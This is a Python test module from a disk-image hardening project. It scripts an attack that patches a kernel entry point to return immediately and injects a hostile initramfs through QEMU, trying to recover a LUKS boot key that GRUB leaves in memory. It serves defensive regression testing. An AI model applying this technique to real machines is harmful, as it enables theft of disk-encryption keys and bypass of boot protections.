# SPDX-FileCopyrightText: 2026 the sealedroot.image authors
# SPDX-License-Identifier: GPL-3.0-or-later

"""The host gives the firmware an initramfs (QEMU's -initrd) beside a kernel that ends at once, so that the disk boots.

The guest must halt before its menu, or boot its own root.

Why: where GRUB starts Linux as a program of EFI (2.12 and later), the kernel takes an initramfs of the firmware before
that of GRUB, and GRUB has left the boot key in memory. GRUB 2.06 of Debian 12 starts it otherwise.
"""

from __future__ import annotations

from attacks import GENUINE, GRUB_SHELL, MARKER, Attack, Outcome, Stage
from hostile import host_initrd

# mov rax, EFI_ABORTED; ret
RETURN = bytes.fromhex("48b81500000000000080c3")


def play(stage: Stage) -> Outcome:
    # A kernel that ends at once: then the firmware goes on with the disk. Its sections lie in the file as in memory.
    kernel = bytearray(stage.image.kernels[0].read_bytes())
    header = int.from_bytes(kernel[0x3C:0x40], "little")
    entry = int.from_bytes(kernel[header + 0x28 : header + 0x2C], "little")
    kernel[entry : entry + len(RETURN)] = RETURN
    ends = stage.folder / "ends"
    ends.write_bytes(kernel)
    initrd = host_initrd(stage.folder / "initrd")
    stage.more += ["-kernel", str(ends), "-initrd", str(initrd)]
    guest = stage.genuine()
    stage.unlock(guest)
    return stage.watch(guest, won=[MARKER, GRUB_SHELL], stopped=GENUINE)


ATTACK = Attack(
    images=("dracut-luks2",),
    play=play,
)
